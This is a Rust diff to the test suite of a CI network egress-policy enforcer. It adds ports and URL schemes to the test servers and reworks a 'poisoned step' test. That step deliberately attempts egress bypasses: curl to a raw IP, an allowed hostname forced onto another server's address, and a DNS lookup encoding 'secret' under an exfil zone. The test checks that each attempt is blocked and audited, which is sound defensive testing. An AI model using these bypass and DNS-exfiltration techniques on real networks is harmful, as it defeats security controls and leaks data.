@@ -32,12 +32,21 @@ pub const HOST6: &str = "2001:db8:7::1";
 /// answer queries sent there.
 pub const RESOLVER4: &str = "198.51.100.94";
 
-/// A server of the world: its name and both its addresses.
+/// A server of the world: its name, both its addresses, and its port (443:
+/// HTTPS, 80: plain HTTP).
 #[derive(Debug, Clone, Copy)]
 pub struct Site {
     pub name: &'static str,
     pub v4: &'static str,
     pub v6: &'static str,
+    pub port: u16,
+}
+
+impl Site {
+    /// Its URL scheme.
+    fn scheme(self) -> &'static str {
+        if self.port == 443 { "https" } else { "http" }
+    }
 }
 
 /// Smart HTTP git (HTTPS).
@@ -45,36 +54,42 @@ pub const GIT: Site = Site {
     name: "git.jobs.test",
     v4: "198.51.100.66",
     v6: "2001:db8:7::66",
+    port: 443,
 };
 /// The PEP 503 index (HTTPS).
 pub const PYPI: Site = Site {
     name: "pypi.jobs.test",
     v4: "198.51.100.67",
     v6: "2001:db8:7::67",
+    port: 443,
 };
 /// The npm registry (HTTPS).
 pub const NPM: Site = Site {
     name: "npm.jobs.test",
     v4: "198.51.100.68",
     v6: "2001:db8:7::68",
+    port: 443,
 };
 /// The Debian repository (plain HTTP: the Host header names it).
 pub const DEB: Site = Site {
     name: "deb.jobs.test",
     v4: "198.51.100.69",
     v6: "2001:db8:7::69",
+    port: 80,
 };
 /// A web server (HTTPS, HTTP/1.1 and HTTP/2).
 pub const WEB: Site = Site {
     name: "web.jobs.test",
     v4: "198.51.100.70",
     v6: "2001:db8:7::70",
+    port: 443,
 };
 /// Served like [`WEB`], named by no policy.
 pub const OTHER: Site = Site {
     name: "other.jobs.test",
     v4: "198.51.100.71",
     v6: "2001:db8:7::71",
+    port: 443,
 };
 const SITES: [Site; 6] = [GIT, PYPI, NPM, DEB, WEB, OTHER];
 
@@ -956,9 +971,9 @@ fn poison_script(allowed: Site) -> String {
     );
     s += &curl("raw-ip", "-k", &format!("https://{}/", OTHER.v4));
     s += &curl(
-        "forged-sni",
-        &format!("--resolve {}:443:{}", allowed.name, OTHER.v4),
-        &format!("https://{}/", allowed.name),
+        "forged-name",
+        &format!("--resolve {}:{}:{}", allowed.name, allowed.port, OTHER.v4),
+        &format!("{}://{}/", allowed.scheme(), allowed.name),
     );
     s += &format!(
         "/usr/bin/python3 -c 'import socket; socket.getaddrinfo(\"c2vjcmv0.exfil.{}\", 443)' 2>\"$T/dns.err\"; echo $? > \"$T/dns\"\n",
@@ -975,8 +990,8 @@ impl Enforced {
     /// (4) A poisoned step in a new job under the same policy: HTTPS to an
     /// unlisted name (by DNS and with its address forced), to the raw IP of
     /// a server no allowed name resolved to (an IP answered for an allowed
-    /// name is allowed without a name, by design), an SNI of `allowed` sent
-    /// to another server, a DNS lookup
+    /// name is allowed without a name, by design), the name of `allowed`
+    /// (SNI, or Host over plain HTTP) sent to another server, a DNS lookup
     /// of a label under a zone nothing allows, a UDP datagram to a non-DNS
     /// port. Each is refused, audited with its process, and `job end
     /// --fail-on-deny` fails. Then every failure kept is asserted.
@@ -1017,11 +1032,11 @@ impl Enforced {
                 comm: "curl",
             },
             Poison {
-                what: "forged-sni",
+                what: "forged-name",
                 kind: Kind::Tcp,
                 reason: Reason::SniIpMismatch,
                 host: Some(allowed.name.into()),
-                dst: v4(OTHER.v4, 443),
+                dst: v4(OTHER.v4, allowed.port),
                 comm: "curl",
             },
             Poison {
